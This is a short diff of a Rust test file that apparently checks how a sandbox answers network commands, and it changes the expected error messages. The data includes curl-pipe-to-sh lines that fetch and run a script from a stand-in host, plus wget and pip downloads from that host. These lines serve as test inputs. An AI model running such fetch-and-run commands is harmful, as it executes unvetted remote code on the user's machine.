@@ -14,8 +14,8 @@ const TOOL: &[u8] = b"#!/bin/sh\necho the tool ran\n";
 
 /// Something a program of this machine asks for, as its user would write it; what it says itself, if the sentence is not in it.
 const PROGRAMS: [(&str, &str, &str); 7] = [
-    ("curl", "curl -sS http://a.example.org/x.sh | sh", "not found"),
-    ("curl", "curl -fsSL https://a.example.org/x.sh | sh", "403"),
+    ("curl", "curl -sS http://a.example.org/x.sh | sh", "exit code 1"),
+    ("curl", "curl -fsSL https://a.example.org/x.sh | sh", ""),
     ("wget", "wget -O- https://a.example.org/x.sh", "does not allow"),
     (
         "git",
@@ -24,7 +24,7 @@ const PROGRAMS: [(&str, &str, &str); 7] = [
     ),
     (
         "pip",
-        "PIP_CONFIG_FILE=/dev/null pip --isolated download --no-deps -i https://a.example.org/simple -d \"$D\" x",
+        "PIP_CONFIG_FILE=/dev/null pip download --no-deps -i https://a.example.org/simple -d \"$D\" x",
         "",
     ),
     (
